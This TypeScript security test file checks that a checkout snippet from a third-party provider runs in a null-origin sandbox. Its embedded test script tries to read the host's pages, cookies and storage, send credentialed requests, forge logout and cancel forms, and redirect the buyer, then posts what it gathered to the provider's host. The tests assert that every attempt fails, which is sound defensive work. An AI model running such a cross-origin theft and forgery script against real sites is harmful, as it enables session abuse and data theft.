import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { openBrowser } from '../builders/browser.ts';
import type { DemoClient } from '../builders/demo-client.ts';
import { buildHouse, type House } from '../builders/house.ts';
import { until } from '../builders/until.ts';
import {
  connectAttacker,
  linkOfReader,
  type OwnProvider,
  openOwnProvider,
  placeOrder,
} from './snippet-shop.ts';

let house: House;
let browser: Browser;
let provider: OwnProvider;
let attacker: DemoClient;

before(async () => {
  house = await buildHouse();
  browser = await openBrowser();
  provider = await openOwnProvider();
  attacker = await connectAttacker(house, provider);
});
after(async () => {
  await browser.close();
  provider.close();
  await house.close();
});

/** A browser in which a reader of another publisher has logged in. */
async function browserOfReader(): Promise<BrowserContext> {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(await linkOfReader(house, `solveig.${provider.told.length}@example.com`));
  await page.getByRole('button').first().click();
  await page.goto(`${house.url}/user/welcome`);
  assert.match(await page.content(), /Demo/i);
  await page.close();
  return context;
}

/** Everything that a script can try with no press of the buyer's; each tells what it got. */
const attack = (ours: string, theirs: string) => `
  const tries = {
    origin: () => self.origin,
    'parent.document': () => parent.document.documentElement.outerHTML,
    'top.document': () => top.document.documentElement.outerHTML,
    'top.location': () => top.location.href,
    'document.cookie': () => { document.cookie = 'a=b'; return document.cookie; },
    localStorage: () => { localStorage.setItem('a', 'b'); return localStorage.getItem('a'); },
    frameElement: () => frameElement.outerHTML,
    fetch: async () => (await fetch('${ours}/user/welcome', { credentials: 'include' })).text(),
    'fetch blindly': async () => (await fetch('${ours}/user/welcome', { credentials: 'include', mode: 'no-cors' })).type,
    'XMLHttpRequest': () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.onload = () => done(request.responseText);
      request.onerror = () => fail(new Error('refused'));
      request.open('GET', '${ours}/user/welcome');
      request.send();
    }),
    'sendBeacon': () => navigator.sendBeacon('${ours}/user/logout', new URLSearchParams({ nonce: '' })) ? 'queued' : undefined,
    'leave by script': () => { top.location = '${theirs}/stolen'; return 'tried'; },
    'leave by link': () => {
      const link = document.body.appendChild(document.createElement('a'));
      link.href = '${theirs}/stolen'; link.target = '_top'; link.click();
      return 'tried';
    },
    'a window': async () => {
      const opened = window.open('${ours}/user/welcome');
      await new Promise((done) => setTimeout(done, 1000));
      return opened?.document.documentElement.outerHTML;
    },
    'a message that leads away': () => {
      parent.postMessage({ leaveTo: '/user/logout' }, '*');
      parent.postMessage({ leaveTo: '${theirs}/stolen' }, '*');
      return 'tried';
    },
    'our page in a frame': () => new Promise((done, fail) => {
      const frame = document.createElement('iframe');
      frame.src = '${ours}/user/welcome';
      frame.onload = () => {
        try { done(frame.contentDocument.documentElement.outerHTML); } catch (error) { fail(error); }
      };
      document.body.append(frame);
      setTimeout(() => fail(new Error('never loaded')), 2000);
    }),
    'an empty frame': () => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      return frame.contentWindow.origin + ' ' + frame.contentWindow.parent.parent.document.title;
    },
  };
  const postForms = () => {
    for (const address of [top === self ? '' : '${ours}/user/logout?clientId=no.leveret.demo', window.orderAddress + '?giveUp=1']) {
      const sink = document.body.appendChild(document.createElement('iframe'));
      sink.name = 'sink' + Math.random();
      const form = document.body.appendChild(document.createElement('form'));
      form.method = 'post'; form.action = address; form.target = sink.name;
      form.innerHTML = '<input name="nonce" value="AAAAAAAAAAAAAAAAAAAAAA">';
      form.submit();
    }
  };
  (async () => {
    const got = {};
    for (const [name, attempt] of Object.entries(tries)) {
      try { got[name] = { value: String(await attempt()) }; } catch (error) { got[name] = { error: error.name }; }
    }
    try { postForms(); } catch (error) { got.form = { error: error.name }; }
    await new Promise((done) => setTimeout(done, 500));
    await fetch('${theirs}/tell/got', { method: 'POST', body: JSON.stringify(got) });
  })();
`;

type Got = Record<string, { value?: string; error?: string }>;

async function openCheckout(context: BrowserContext, makeScript: (address: string) => string): Promise<Page> {
  const address = await placeOrder(attacker);
  provider.told.splice(0);
  provider.snippet = `<div id="own">Checkout</div><script>${makeScript(address)}</script>`;
  const page = await context.newPage();
  await page.goto(address);
  return page;
}

async function told(path: string): Promise<string> {
  return until(`${path} to be told`, async () => provider.told.find((one) => one.path === path)?.body);
}

async function tryEverything(context: BrowserContext): Promise<{ got: Got; page: Page; address: string }> {
  let address = '';
  const page = await openCheckout(context, (given) => {
    address = given;
    return `window.orderAddress = '${given}';${attack(house.url, provider.url)}`;
  });
  const got: Got = JSON.parse(await told('/tell/got'));
  return { got, page, address };
}

test('a snippet of a publisher’s own server reads nothing, posts nothing and leads nowhere as the reader', async () => {
  const context = await browserOfReader();
  const { got, page, address } = await tryEverything(context);
  const { origin, sendBeacon, ...tries } = got;
  assert.deepEqual(origin, { value: 'null' });
  assert.ok(sendBeacon);
  const without = new Set(['tried', 'undefined']);
  for (const [name, { value }] of Object.entries(tries)) {
    assert.ok(value === undefined || without.has(value), `${name} got ${value}`);
  }
  assert.equal(page.url(), address);
  assert.deepEqual(
    provider.told.filter(({ path }) => path === '/stolen'),
    [],
  );
  const state = (await attacker.get(`/capi/v1/client/orders?limit=1`)).body['orders'] as { state: string }[];
  assert.notEqual(state[0]?.state, 'stopped');
  const reader = await context.newPage();
  await reader.goto(`${house.url}/user/welcome`);
  assert.equal((await reader.request.get(`${house.url}/user/welcome`)).status(), 200, 'still logged in');
  await context.close();
});

test('what stands in the frame has no origin of ours, and the provider’s own frame within is itself', async () => {
  const context = await browser.newContext();
  const page = await openCheckout(context, () => '');
  provider.snippet = `<iframe src="${provider.url}/frame"></iframe>`;
  await page.close();
  const address = await placeOrder(attacker);
  const again = await context.newPage();
  await again.goto(address);
  assert.deepEqual(JSON.parse(await told('/tell/frame')), { origin: provider.url, stored: '1' });
  const [, frame] = again.frames();
  assert.match(frame?.url() ?? '', /^data:text\/html/);
  assert.equal(await frame?.evaluate('self.origin'), 'null');
  await context.close();
});

test('a snippet that no provider sends is refused, and the buyer may try again', async () => {
  const context = await browser.newContext();
  const address = await placeOrder(attacker);
  for (const snippet of ['<script'.repeat(70_000), '<script>a</script>'.repeat(10_000)]) {
    provider.snippet = snippet;
    const page = await context.newPage();
    const reply = await page.goto(address);
    assert.equal(reply?.status(), 200);
    assert.equal(await page.locator('iframe').count(), 0);
    await page.close();
  }
  await context.close();
});
